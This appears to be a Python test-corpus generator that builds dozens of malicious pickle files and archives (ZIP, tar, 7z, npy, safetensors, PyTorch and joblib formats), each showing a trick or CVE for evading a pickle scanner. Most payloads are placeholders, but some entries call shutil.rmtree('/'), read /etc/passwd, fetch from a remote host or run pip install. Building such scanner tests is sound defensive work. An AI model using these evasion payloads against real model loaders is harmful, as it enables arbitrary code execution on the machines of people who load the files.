"""Pickles, and archives of pickles, that try to get past a scanner, built byte by byte: one per trick. Nothing here is ever
loaded; what they would run is a harmless print or a lookup."""
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib

CODE = "print('poisoned')"


def short(text):
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def line(text):
    return text.encode() + b"\n"


# The same call in every form the machine has for it: module, name, one string argument.
FORMS = {
    "GLOBAL+REDUCE": lambda m, n: b"c" + line(m) + line(n) + b"(S'x'\ntR.",
    "GLOBAL+REDUCE protocol 2": lambda m, n: b"\x80\x02c" + line(m) + line(n) + b"X\1\0\0\0x\x85R.",
    "STACK_GLOBAL+REDUCE": lambda m, n: b"\x80\x04" + short(m) + short(n) + b"\x93" + short("x") + b"\x85R.",
    "STACK_GLOBAL, names by memo": lambda m, n: (b"\x80\x04" + short(m) + b"\x94" + short(n) + b"\x9400h\0h\1\x93"
                                                 + short("x") + b"\x85R."),
    "STACK_GLOBAL, escaped names": lambda m, n: (b"V" + line("".join(f"\\u{ord(c):04x}" for c in m)) + b"V" + line(n)
                                                 + b"\x93(S'x'\ntR."),
    "INST": lambda m, n: b"(S'x'\ni" + line(m) + line(n) + b".",
    "OBJ": lambda m, n: b"(c" + line(m) + line(n) + b"S'x'\no.",
    "NEWOBJ": lambda m, n: b"\x80\x02c" + line(m) + line(n) + b"X\1\0\0\0x\x85\x81.",
    "NEWOBJ_EX": lambda m, n: b"\x80\x04" + short(m) + short(n) + b"\x93" + short("x") + b"\x85}\x92.",
    "REDUCE, then POP": lambda m, n: b"c" + line(m) + line(n) + b"(S'x'\ntR0N.",
    "lookup alone": lambda m, n: b"\x80\x04" + short(m) + short(n) + b"\x93.",
    "broken behind the call": lambda m, n: b"c" + line(m) + line(n) + b"(S'x'\ntR\xff\xff",
    "no STOP": lambda m, n: b"c" + line(m) + line(n) + b"(S'x'\ntR",
    "second stream": lambda m, n: b"N." + b"c" + line(m) + line(n) + b"(S'x'\ntR.",
    "BUILD on the function": lambda m, n: b"c" + line(m) + line(n) + b"}b.",
    "inside a list": lambda m, n: b"\x80\x04](" + short(m) + short(n) + b"\x93" + short("x") + b"\x85RNe.",
}

EVIL = FORMS["GLOBAL+REDUCE"]("builtins", "exec").replace(b"S'x'", b'S"' + CODE.encode() + b'"')


def zipped(entries, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def call(module, name, *args):
    """module.name(*args) with string arguments, protocol 4."""
    body = b"".join(short(a) for a in args)
    return b"\x80\x04" + short(module) + short(name) + b"\x93(" + body + b"tR."


def renamed_locally(data, old, new):
    """The local header says another name than the directory."""
    return data.replace(old, new, 1)


def hidden_entry():
    """An entry that the directory does not list, between two that it does."""
    whole = zipped([("a.txt", b"a" * 40), ("b.pkl", EVIL), ("c.txt", b"c" * 40)])
    at = whole.index(b"PK\1\2")
    records, rest = [], whole[at:]
    while rest.startswith(b"PK\1\2"):
        n = 46 + sum(struct.unpack("<HHH", rest[28:34]))
        records.append(rest[:n])
        rest = rest[n:]
    kept = [r for r in records if b"b.pkl" not in r]
    directory = b"".join(kept)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(kept), len(kept), len(directory), at, 0)
    return whole[:at] + directory + end


def nested():
    inner = EVIL
    for _ in range(3):
        inner = zipped([("inner.zip" if inner[:2] == b"PK" else "model.pkl", inner)], zipfile.ZIP_DEFLATED)
    return inner


def skipped_by_joblib():
    """joblib takes the bytes behind its wrapper for numbers; pickle.load goes on with them as opcodes."""
    raw = b"0" + call("os", "system", "id")[2:]
    state = (short("dtype") + short("numpy") + short("dtype") + b"\x93" + short("u1") + b"\x85R" + short("shape") + b"K%c\x85" % len(raw)
             + short("order") + short("C") + short("allow_mmap") + b"\x89")
    return (b"\x80\x04" + short("joblib.numpy_pickle") + short("NumpyArrayWrapper") + b"\x93)\x81}(" + state + b"ub" + raw + b".")


def corpus():
    """name -> bytes: every one of them runs, or tries to run, code."""
    files = {f"form {i:02d} {name}.pkl": form("posix", "system") for i, (name, form) in enumerate(FORMS.items())}
    files |= {
        "CVE-2025-1716 pip.main.pkl": call("pip", "main", "install"),
        "CVE-2025-1889 other extension in zip.pt": zipped([("archive/data.pkl", b"\x80\x04N."), ("archive/config.p", EVIL)]),
        "CVE-2025-1944 names differ.pt": renamed_locally(zipped([("archive/data.pkl", EVIL)]), b"data.pkl", b"data.txt"),
        "CVE-2025-1945 flag bits.pt": zipped([("archive/data.pkl", EVIL)]).replace(b"PK\1\2\x14\3\x14\0\0\0",
                                                                                    b"PK\1\2\x14\3\x14\0\1\0"),
        "CVE-2025-10155 pickle named bin.bin": EVIL,
        "CVE-2025-10156 wrong checksum.pt": bad_checksum(),
        "CVE-2025-10157 submodule.pkl": call("asyncio.unix_events", "_UnixSubprocessTransport._start", "x"),
        "EXT1.pkl": b"\x80\x02\x82\1)R.",
        "EXT2.pkl": b"\x80\x02\x83\1\1)R.",
        "EXT4.pkl": b"\x80\x02\x84\1\1\1\1)R.",
        "resolve_name.pkl": b"\x80\x04" + short("pkgutil") + short("resolve_name") + b"\x93" + short("os:system")
                            + b"\x85R" + short("x") + b"\x85R.",
        "getattr chain.pkl": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'x'\ntR.",
        "computed name.pkl": b"\x80\x04" + short("builtins") + short("str") + b"\x93" + short("os") + b"\x85R"
                             + short("system") + b"\x93" + short("x") + b"\x85R.",
        "pickle in bytes.pkl": b"\x80\x04c_pickle\nloads\nB" + struct.pack("<I", len(EVIL)) + EVIL + b"\x85R.",
        "pickle in bytes, magic.pkl": b"\x80\x04B" + struct.pack("<I", len(EVIL) + 2) + b"\x80\x04" + EVIL + b".",
        "gzip.pkl.gz": gzip.compress(EVIL),
        "bzip2.pkl": bz2.compress(EVIL),
        "xz.pkl": lzma.compress(EVIL),
        "zlib.joblib": zlib.compress(EVIL),
        "prefix bytes.pt": b"#!/bin/sh\nexit 0\n" + zipped([("archive/data.pkl", EVIL)]),
        "no directory.zip": zipped([("model.pkl", EVIL)]).split(b"PK\1\2")[0],
        "hidden entry.zip": hidden_entry(),
        "deflated.zip": zipped([("model.pkl", EVIL * 3)], zipfile.ZIP_DEFLATED),
        "three levels.zip": nested(),
        "extension says nothing.txt": EVIL,
        "sys.modules.pkl": b"\x80\x04" + short("sys") + short("modules") + b"\x93" + short("os") + b"Ns.",
        "frames differ.pkl": b"\x80\x04\x95\3\0\0\0\0\0\0\0" + call("os", "system", "x")[2:],
        "memo far away.pkl": b"\x80\x04" + short("os") + b"r\xff\xff\xff\x7f0" + short("x") + b"0j\xff\xff\xff\x7f"
                             + short("system") + b"\x93" + short("x") + b"\x85R.",
        "joblib raw array.joblib": joblib_array(),
        "joblib skips what pickle runs.pkl": skipped_by_joblib(),
        "text, instance first.dat": b"(S'id'\nios\nsystem\n.",
        "text, dictionary first.sav": b"(dp0\nVa\np1\ncos\nsystem\np2\n(Vid\np3\ntp4\nRp5\ns.",
        "through an allowed module.pkl": call("sklearn._loss.loss", "np.lib._npyio_impl.os.system", "id"),
        "built-ins of an allowed module.pkl": call("sklearn._loss._loss", "__builtins__.eval", "1"),
        "expression of pandas.pkl": call("pandas.core.computation.expr", "Expr", "__builtins__.eval('1')"),
        "lambda of keras.pkl": call("keras.layers", "Lambda", "x"),
        "load from bytes, another encoding.pkl": b"\x80\x04" + short("torch.storage") + short("_load_from_bytes") + b"\x93"
                                                 + short("_codecs") + short("encode") + b"\x93"
                                                 + short(EVIL.decode("cp037")) + short("cp037") + b"\x86R\x85R.",
        "load from bytes, a list.pkl": b"\x80\x04" + short("torch.storage") + short("_load_from_bytes") + b"\x93"
                                       + short("builtins") + short("bytes") + b"\x93](" + b"".join(b"K%c" % c for c in EVIL)
                                       + b"e\x85R\x85R.",
        "state that is called.pkl": b"\x80\x04" + short("types") + short("SimpleNamespace") + b"\x93)R}" + short("__setstate__")
                                    + short("os") + short("system") + b"\x93sb" + short("id") + b"b.",
    } | more()
    return files


def opaque(*parts):
    """Opcodes behind each other, protocol 4."""
    return b"\x80\x04" + b"".join(parts) + b"."


def lookup(module, name):
    return short(module) + short(name) + b"\x93"


def more():
    """Tricks of loaders other than pickle.load, and names that reach code in two steps."""
    data = zipped([("archive/data.pkl", EVIL), ("archive/version", b"3\n"), ("archive/data/0", bytes(16))])
    tar = tarred([("model.pkl", EVIL)])
    header = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    safe = struct.pack("<Q", len(header)) + header + bytes(16)
    legacy = b"".join(pickle.dumps(x, 2) for x in (0x1950a86a20f9469cfc6c, 1001, {"little_endian": True}))
    text = b"\x80\x02cbuiltins\neval\nX\x05\0\0\x001+1+1\x85R."
    return {
        "CVE-2025-1889 pickle named config.p": EVIL,
        "CVE-2025-10157 submodule of ctypes.pkl": call("ctypes.util", "find_library", "x") ,
        "pydoc.locate.pkl": opaque(lookup("pydoc", "locate"), short("os.system"), b"\x85R", short("x"), b"\x85R"),
        "operator.attrgetter.pkl": opaque(lookup("operator", "attrgetter"), short("system"), b"\x85R", lookup("builtins", "__import__"),
                                          short("os"), b"\x85R\x85R", short("x"), b"\x85R"),
        "operator.methodcaller.pkl": opaque(lookup("operator", "methodcaller"), short("system"), short("x"), b"\x86R",
                                            lookup("builtins", "__import__"), short("os"), b"\x85R\x85R"),
        "functools.partial.pkl": opaque(lookup("functools", "partial"), lookup("os", "system"), short("x"), b"\x86R)R"),
        "map over exec.pkl": opaque(lookup("builtins", "list"), lookup("builtins", "map"), lookup("builtins", "exec"), b"(", short("1"),
                                    b"l\x86R\x85R"),
        "joined by codecs.decode.pkl": opaque(lookup("codecs", "decode"), short("bf"), short("rot13"), b"\x86R", short("system"),
                                              b"\x93", short("x"), b"\x85R"),
        "reversed by slicing.pkl": opaque(lookup("operator", "getitem"), short("so"), lookup("builtins", "slice"), b"NNJ\xff\xff\xff\xff\x87R\x86R",
                                          short("system"), b"\x93", short("x"), b"\x85R"),
        "joined strings.pkl": opaque(lookup("operator", "add"), short("o"), short("s"), b"\x86R", short("system"), b"\x93", short("x"), b"\x85R"),
        "BUILD with __setstate__.pkl": opaque(lookup("types", "SimpleNamespace"), b")\x81}", short("__setstate__"), lookup("os", "system"),
                                              b"sb", short("x"), b"b"),
        "attributes of a class.pkl": opaque(lookup("collections", "OrderedDict"), b"}", short("__reduce__"), lookup("os", "system"), b"sb"),
        "module's dictionary.pkl": opaque(lookup("os", "environ"), short("PATH"), short("/tmp"), b"s"),
        "__builtins__ of a function.pkl": opaque(lookup("builtins", "getattr"), lookup("collections", "namedtuple"), short("__globals__"),
                                                 b"\x86R"),
        "dill function.pkl": opaque(lookup("dill._dill", "_create_function"), lookup("dill._dill", "_create_code"), short("x"), b"\x85R}NN\x87R"),
        "cloudpickle function.pkl": opaque(lookup("cloudpickle.cloudpickle", "_builtin_type"), short("CodeType"), b"\x85R",
                                           short("x"), b"\x85R"),
        "code of types.pkl": opaque(lookup("types", "FunctionType"), lookup("types", "CodeType"), short("x"), b"\x85R}\x86R"),
        "marshal.pkl": opaque(lookup("marshal", "loads"), b"C\x01x\x85R"),
        "numpy testing.pkl": call("numpy.testing._private.utils", "runstring", CODE),
        "torch hub.pkl": call("torch.hub", "load", "someone/else"),
        "torch's own loader.pkl": call("torch.serialization", "load", "other.pt"),
        "pandas read_pickle.pkl": call("pandas.io.pickle", "read_pickle", "http://host/x.pkl"),
        "pandas eval.pkl": call("pandas.core.computation.eval", "eval", CODE),
        "idlelib.pkl": call("idlelib.pyshell", "ModifiedInterpreter.runcommand", CODE),
        "lib2to3.pkl": call("lib2to3.pgen2.pgen", "ParserGenerator", "x"),
        "timeit.pkl": call("timeit", "timeit", CODE),
        "bdb.pkl": call("bdb", "Bdb.run", CODE),
        "trace.pkl": call("trace", "Trace.run", CODE),
        "doctest.pkl": call("doctest", "debug_script", CODE),
        "cProfile.pkl": call("cProfile", "runctx", CODE),
        "ensurepip.pkl": call("ensurepip", "_run_pip", "install"),
        "webbrowser.pkl": call("webbrowser", "open", "http://host"),
        "linecache reads files.pkl": call("linecache", "getlines", "/etc/passwd"),
        "sends by urllib.pkl": call("urllib.request", "urlopen", "http://host"),
        "sends by smtplib.pkl": call("smtplib", "SMTP", "host"),
        "ssl socket.pkl": call("socket", "create_connection", "host"),
        "sqlite3.pkl": call("sqlite3", "connect", "x"),
        "shutil.pkl": call("shutil", "rmtree", "/"),
        "PyTorch, other pickle in the archive.pt": zipped([("archive/data.pkl", b"\x80\x02}."), ("archive/extra/x.pkl", EVIL)]),
        "PyTorch, storage is a pickle.pt": zipped([("archive/data.pkl", b"\x80\x02}."), ("archive/data/0", EVIL)]),
        "PyTorch, prefix and suffix.pt": b"x" * 100 + data + b"y" * 50,
        "PyTorch, two directories.pt": data + zipped([("archive/data.pkl", b"\x80\x02}.")]),
        "PyTorch, entry twice.pt": twice(),
        "PyTorch, TorchScript code.pt": zipped([("archive/data.pkl", b"\x80\x02}."), ("archive/constants.pkl", EVIL),
                                                ("archive/code/__torch__.py", b"def forward(self): pass\n")]),
        "PyTorch, compressed entry.pt": zipped([("archive/data.pkl", EVIL)], zipfile.ZIP_DEFLATED),
        "PyTorch, legacy magic.pt": legacy + EVIL,
        "PyTorch, legacy behind the keys.pt": legacy + b"\x80\x02}.\x80\x02]." + EVIL,
        "PyTorch, legacy tar.pt": tar,
        "Keras, pickle in the archive.keras": zipped([("config.json", b"{}"), ("metadata.json", b"{}"), ("x.pkl", EVIL)]),
        "npz of objects.npz": zipped([("a.npy", npy(EVIL))]),
        "npy of objects.npy": npy(EVIL),
        "npy of objects, version 2.npy": npy(EVIL, 2),
        "npy named txt.txt": npy(EVIL),
        "safetensors and pickle.safetensors": safe + EVIL,
        "safetensors and ZIP.safetensors": safe + data,
        "pickle and ZIP.pkl": EVIL + zipped([("readme.txt", b"nothing")]),
        "ZIP and pickle.zip": zipped([("readme.txt", b"nothing")]) + EVIL,
        "tar.tar": tar,
        "tar under gzip.tar.gz": gzip.compress(tar),
        "gzip under bzip2 under xz.pkl": lzma.compress(bz2.compress(gzip.compress(EVIL))),
        "gzip with trailing bytes.pkl.gz": gzip.compress(EVIL) + b"rest",
        "gzip of two members.pkl.gz": gzip.compress(b"\x80\x02}.") + gzip.compress(EVIL),
        "gzip cut off.pkl.gz": gzip.compress(EVIL + bytes(range(256)) * 64)[:-30],
        "lzma alone.pkl": lzma.compress(EVIL, lzma.FORMAT_ALONE),
        "ZIP in tar in gzip.pkl": gzip.compress(tarred([("a.zip", zipped([("m.pkl", EVIL)]))])),
        "7z.7z": seven_zip(EVIL),
        "broken tail.7z": seven_zip(EVIL, tail=b"\xff" * 32),
        "pickle in a string.pkl": opaque(b"B" + struct.pack("<I", len(text)) + text),
        "hidden behind a long string.pkl": opaque(b"X" + struct.pack("<I", 1 << 16) + b"a" * (1 << 16), b"0", lookup("os", "system"), short("x"), b"\x85R"),
        "protocol in the middle.pkl": b"N0\x80\x05" + EVIL,
        "persistent id.pkl": opaque(lookup("os", "system"), short("x"), b"\x85RQ"),
        "marks and POP_MARK.pkl": opaque(b"(", lookup("os", "system"), short("x"), b"\x85R1N"),
        "DUP of the function.pkl": opaque(lookup("os", "system"), b"2", short("x"), b"\x85R"),
        "GET by text.pkl": b"cos\nsystem\np7\n0g7\n(S'x'\ntR.",
        "upper case module.pkl": call("nt", "system", "x"),
        "space behind the name.pkl": b"cos\nsystem\n(S'x'\ntR." + b" " * 20,
    }


def twice():
    """The same name twice: readers that take the first see a harmless one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        z.writestr("archive/data.pkl", b"\x80\x02}.")
        z.writestr("archive/data.pkl", EVIL)
    return out.getvalue()


def tarred(entries):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy(data, version=1):
    text = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode().ljust(117) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(text)) + text + data


def seven_zip(data, tail=b""):
    """One stored file "m.pkl"; 7zFormat.txt, copied method."""
    name = "m.pkl".encode("utf-16-le") + b"\0\0"
    header = (b"\1\4\6\0\1\x09" + number(len(data)) + b"\0\7\x0b\1\0\1\1\0\x0c" + number(len(data)) + b"\x0a\1"
              + struct.pack("<I", zlib.crc32(data)) + b"\0\x08\0\0\5\1\x11" + number(len(name) + 1) + b"\0" + name + b"\0\0")
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + data + header + tail


def number(n):
    """As 7z writes numbers, up to 2 ** 14."""
    return bytes([n]) if n < 0x80 else bytes([0x80 | n >> 8, n & 255])


def bad_checksum():
    whole = zipped([("archive/data.pkl", EVIL)])
    crc = struct.pack("<I", zlib.crc32(EVIL))
    return whole.replace(crc, b"\1\2\3\4")


def joblib_array():
    """A call behind an array's raw bytes, where only joblib looks."""
    state = {"subclass": None, "shape": (4,), "order": "C", "dtype": None, "allow_mmap": True,
             "numpy_array_alignment_bytes": 16}
    body = b"\x80\x04](\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}("
    for key, value in state.items():
        body += short(key)
        body += {"dtype": b"\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02f8\x89\x88\x87R"}.get(
            key, pickle.dumps(value, 2)[2:-1].replace(b"q\x00", b"") if key != "shape" else b"K\4\x85")
    return body + b"ub" + b"\4pad!" + bytes(32) + b"cposix\nsystem\n(S'x'\ntRe."
